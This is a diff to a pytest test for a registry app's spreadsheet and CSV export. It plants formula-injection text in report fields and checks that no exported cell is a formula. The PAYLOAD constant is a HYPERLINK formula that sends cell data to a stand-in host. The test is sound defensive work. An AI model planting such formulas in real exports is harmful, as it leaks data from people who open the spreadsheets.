@@ -18,10 +18,21 @@ from registry.services import certificates, progress, reports
 from registry.services.spreadsheets import FORMULA_TRIGGERS, append, csv_bytes, csv_cell, looks_like_formula, put
 
 # What a hostile producer or officer would type after the trigger: a formula that phones home.
-PAYLOAD = 'HYPERLINK("http://evil.example/?d="&A1,"Bấm")'
+PAYLOAD = 'HYPERLINK("http://e.vn/?"&A1)'
 
 
-def _plant(world, trigger: str) -> dict[str, str]:
+@pytest.fixture
+def originals(app):
+    """Reference rows (provinces, plans, targets) outlive a test on PostgreSQL: put back what a test planted."""
+    kept: list[tuple[type, int, str, object]] = []
+    yield kept
+    db.session.rollback()
+    for model, pk, field, value in kept:
+        setattr(db.session.get(model, pk), field, value)
+    db.session.commit()
+
+
+def _plant(world, trigger: str, originals) -> dict[str, str]:
     """Every text field that reaches the annual report, set (past any input rule) to trigger + payload."""
     year = date.today().year
     org = world.organization("thai-nguyen")
@@ -41,10 +52,14 @@ def _plant(world, trigger: str) -> dict[str, str]:
     )
     planted: dict[str, str] = {}
 
-    def plant(record, field: str) -> None:
-        value = f"{trigger}{type(record).__name__}.{field} {PAYLOAD}"
+    def plant(record, field: str, name: str | None = None) -> None:
+        name = name or f"{type(record).__name__}.{field}"
+        length = getattr(type(record).__table__.c[field].type, "length", None)  # PostgreSQL holds it to that
+        value = f"{trigger}{PAYLOAD} {name}"[:length]
+        if isinstance(record, Province | Plan | Target):
+            originals.append((type(record), record.id, field, getattr(record, field)))
         setattr(record, field, value)
-        planted[f"{type(record).__name__}.{field}"] = value
+        planted[name] = value
 
     cert = db.session.get(Certificate, cert.id)
     plant(cert, "number")
@@ -56,8 +71,7 @@ def _plant(world, trigger: str) -> dict[str, str]:
     for code in ("TN-GUIDED", "TN-DISSEM"):
         target = db.session.scalar(db.select(Target).filter_by(code=code))
         for field in ("clause", "wording", "note", "unit"):
-            setattr(target, field, f"{trigger}{code}.{field} {PAYLOAD}")
-            planted[f"{code}.{field}"] = getattr(target, field)
+            plant(target, field, f"{code}.{field}")
     figure = progress.reported_figures(db.session.scalar(db.select(Target).filter_by(code="TN-DISSEM")))[0]
     plant(figure, "evidence")
     target = db.session.scalar(db.select(Target).filter_by(code="TN-STRAT-20"))
@@ -67,8 +81,8 @@ def _plant(world, trigger: str) -> dict[str, str]:
 
 
 @pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=[f"U+{ord(c):04X}" for c in FORMULA_TRIGGERS])
-def test_no_exported_cell_is_a_formula_and_every_planted_text_reads_as_typed(world, trigger):
-    planted = _plant(world, trigger)
+def test_no_exported_cell_is_a_formula_and_every_planted_text_reads_as_typed(world, trigger, originals):
+    planted = _plant(world, trigger, originals)
     report = reports.build_report("thai-nguyen", date.today().year)
 
     wb = openpyxl.load_workbook(io.BytesIO(reports.render(report, "xlsx")))
